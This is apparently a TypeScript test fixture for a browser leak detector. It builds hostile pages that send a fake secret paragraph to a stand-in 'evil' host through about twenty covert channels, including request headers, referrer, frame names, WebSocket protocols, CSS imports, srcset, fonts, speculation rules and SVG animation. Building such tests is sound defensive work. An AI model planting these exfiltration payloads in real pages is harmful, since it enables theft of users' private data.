/** PASSING_REQUESTS: hostile pages by text that leaves beside the address, or by addresses that styles, sets and older attributes hold. */
import type { Single } from './kind';
import { next } from './single-parts';

const elsewhere = (body: (to: string) => string, afterMs = 600): Single => ({
  by: 'browser',
  afterMs,
  body: ({ path, evil }) => body(`${evil}${path}`),
});
const SECRET_PAGE =
  '<p id="t">Clara is to have her knee looked at on the ninth, and Ben must not hear a word of it before June.</p>';
const text = 'encodeURIComponent(t.textContent)';
const slug = "t.textContent.toLowerCase().replace(/[^a-z]+/g, '-').slice(0, 60)";
const leaving =
  (code: string, around = '') =>
  (to: string) =>
    `${SECRET_PAGE}${around}${next(code.replaceAll('TO', to))}`;

export const PASSING_REQUESTS: Readonly<Record<string, Single>> = {
  'header of the older request': elsewhere(
    leaving(`x = new XMLHttpRequest(); x.open('GET', 'TO'); x.setRequestHeader('accept', t.textContent); x.send()`),
  ),
  'language of a request': elsewhere(
    leaving(
      `fetch('TO', {mode: 'no-cors', headers: new Headers({'accept-language': t.textContent.replace(/[^a-z ]/gi, '')})})`,
    ),
  ),
  'header of a request that is made before': elsewhere(
    leaving(`fetch(new Request('TO', {mode: 'no-cors', headers: {accept: btoa(t.textContent.slice(0, 80))}}))`),
  ),
  'name of a header': elsewhere(leaving(`fetch('TO', {headers: {[${slug}]: '1'}}).catch(() => 0)`)),
  'name of a method': elsewhere(leaving(`fetch('TO', {method: ${slug}}).catch(() => 0)`)),
  'page that a request says it comes from': elsewhere(
    leaving(`fetch('TO', {mode: 'no-cors', referrer: '/?' + ${text}, referrerPolicy: 'unsafe-url'})`),
  ),
  'address of the page, beacon by its own rule': elsewhere(
    leaving(
      `history.replaceState(1, '', '?' + ${text}); new Image().src = 'TO'`,
      '<meta name="referrer" content="unsafe-url">',
    ),
  ),
  'name of a window that is opened': elsewhere(
    leaving(`document.body.append(Object.assign(document.createElement('iframe'), {name: t.textContent, src: 'TO'}))`),
  ),
  'name of a frame that is turned': elsewhere(
    leaving(
      "f.setAttribute('name', t.textContent); f.setAttribute('src', 'TO')",
      '<iframe id="f" width="40" height="20"></iframe>',
    ),
  ),
  'protocols of a socket': elsewhere(
    leaving(
      `new WebSocket('TO'.replace('http', 'ws'), t.textContent.toLowerCase().match(/[a-z]+/g).filter((w, i, all) => all.indexOf(w) === i))`,
    ),
  ),
  'style with a set of pictures': elsewhere(leaving(`t.style.backgroundImage = 'image-set("TO?' + ${text} + '" 1x)'`)),
  'sheet that takes in another': elsewhere(
    leaving(
      `s = document.createElement('style'); s.textContent = '@import "TO?' + ${text} + '";'; document.head.append(s)`,
    ),
  ),
  'typed value of a rule': elsewhere(
    leaving(
      `document.styleSheets[document.styleSheets.length - 1].cssRules[0].styleMap.set('background-image', 'url(TO?' + ${text} + ')')`,
      '<style>#t { color: #222 }</style>',
    ),
  ),
  'rules of loading ahead, elsewhere': elsewhere(
    leaving(
      `s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{urls: ['TO?' + ${text}]}]}); document.head.append(s)`,
    ),
  ),
  'ground of a cell': elsewhere(
    leaving(`c.setAttribute('background', 'TO?' + ${text})`, '<table><tr><td id="c">7</td></tr></table>'),
  ),
  'second picture of a set': elsewhere(
    leaving(`i = new Image(); i.srcset = '/benign 1x, TO?' + ${text} + ' 0.5x'; document.body.append(i)`),
  ),
  'second address of letters, elsewhere': elsewhere(
    leaving(`new FontFace('k', 'url(/benign), url(TO?' + ${text} + ')').load().catch(() => 0)`),
  ),
  'set of pictures of a link, elsewhere': elsewhere(
    leaving(
      `l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.imageSrcset = 'TO?' + ${text} + ' 1x'; document.head.append(l)`,
    ),
  ),
  'markup that an editor takes in, elsewhere': elsewhere(
    leaving(
      `e.focus(); document.execCommand('insertHTML', false, '<img src="TO?' + ${text} + '">')`,
      '<div id="e" contenteditable style="min-height:20px">7</div>',
    ),
  ),
  'picture that a range takes in, elsewhere': elsewhere(
    leaving(
      `i = new DOMParser().parseFromString('<img src="TO?' + ${text} + '">', 'text/html').querySelector('img'); document.createRange().insertNode(i)`,
    ),
  ),
  'drawing that a movement sets, elsewhere': elsewhere(
    leaving(
      `s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); document.body.append(s); s.innerHTML = '<image width="20" height="20"><set attributeName="href" to="TO?' + ${text} + '"/></image>'`,
    ),
  ),
  'text in the middle of a name': elsewhere(leaving(`new Image().src = 'TO?x=1;id=9;' + ${text} + ';end'`)),
};
